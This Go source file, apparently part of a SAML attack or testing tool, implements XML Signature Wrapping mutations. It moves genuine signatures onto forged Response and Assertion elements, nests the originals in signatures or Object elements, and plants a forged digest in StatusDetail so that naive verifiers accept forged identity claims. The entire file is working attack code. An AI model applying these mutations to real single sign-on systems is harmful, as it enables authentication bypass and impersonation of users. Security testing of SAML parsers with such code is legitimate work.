package attack

import "github.com/beevik/etree"

// wrappingSteps move parts of a signed message. Its signature still verifies,
// but covers another element than the one that a careless reader finds.
var wrappingSteps = map[string]step{
	// A forged Response or assertion gets the original's signature. wrap has the places
	// for the original.
	"wrap-response": {after, 1, func(d *draft, a []string) {
		forged := d.forgedResponse()
		d.wrap(forged, d.resp, d.respSig, a[0])
		d.tree.SetRoot(forged)
	}},
	"wrap-assertion": {after, 1, func(d *draft, a []string) {
		forged := d.forgedAssertion()
		d.wrap(forged, d.asrt, d.asrtSig, a[0])
		swap(d.asrt, forged)
	}},
	// The whole message goes into the assertion's signature.
	"wrap-message": {after, 0, func(d *draft, _ []string) {
		forged := d.forgedResponse()
		d.wrap(forged.SelectElement("Assertion"), d.resp, d.asrtSig, "inside-signature")
		d.tree.SetRoot(forged)
	}},

	// A forged assertion or Response replaces the original. "hang" steps add that to
	// another element.
	"displace":          {after, 0, func(d *draft, _ []string) { swap(d.asrt, d.forgedAssertion()) }},
	"hang":              {after, 1, func(d *draft, a []string) { d.find(a[0]).AddChild(d.asrt) }},
	"displace-response": {after, 0, func(d *draft, _ []string) { d.tree.SetRoot(d.forgedResponse()) }},
	"hang-response":     {after, 1, func(d *draft, a []string) { d.find(a[0]).AddChild(d.resp) }},

	// A forged assertion, perhaps with another XML attribute.
	"forged-assertion": {before, -1, func(d *draft, a []string) {
		forged := d.forgedAssertion()
		if len(a) > 1 {
			forged.CreateAttr(a[1], a[2])
		}
		switch a[0] {
		case "first":
			d.resp.InsertChildAt(0, forged)
		case "before":
			insertBefore(d.asrt, forged)
		case "last":
			d.resp.AddChild(forged)
		case "extensions":
			d.extensions().AddChild(forged)
		}
	}},
	"forged-response": {before, 0, func(d *draft, _ []string) { d.extensions().AddChild(d.forgedResponse()) }},

	// The forged content's digest, where a search by name finds it before the signed
	// one.
	"digest-in-status": {after, 0, func(d *draft, _ []string) {
		d.forge()
		genuine := d.sig.digestValue.Text()
		detail := d.find("Status").CreateElement("saml2p:StatusDetail")
		reference := child(detail, "ds:Reference", "xmlns:ds", nsDSig, "URI", d.sig.ref.SelectAttrValue("URI", ""))
		d.sig.digestOver(d.sig.parent)
		reference.CreateElement("ds:DigestValue").SetText(d.sig.digestValue.Text())
		d.sig.digestValue.SetText(genuine)
	}},
	// An unsigned Response without an assertion replaces the original.
	"displace-response-empty": {after, 0, func(d *draft, _ []string) {
		forged := without(d.resp)
		forged.CreateAttr("ID", d.newID())
		detach(forged.SelectElement("Assertion"))
		d.tree.SetRoot(forged)
	}},
	// From here on the signature under attack is the Response's.
	"response-signature": {after, 0, func(d *draft, _ []string) { d.sig = d.respSig }},
}

// wrap moves the original's signature to a forged element, and adds the original
// where the word says.
func (d *draft) wrap(forged, original *etree.Element, sig *signature, where string) {
	detach(sig.el)
	original = without(original)
	at := forged.SelectElement("Issuer").Index() + 1
	forged.InsertChildAt(at, sig.el)
	switch where {
	case "inside-signature":
		sig.el.AddChild(original)
	case "first-in-signature":
		sig.el.InsertChildAt(0, original)
	case "inside-object":
		sig.el.CreateElement("ds:Object").AddChild(original)
	case "before-signature":
		forged.InsertChildAt(at, original)
	case "last-in-forged":
		forged.AddChild(original)
	case "last-in-response":
		d.resp.AddChild(original)
	}
}
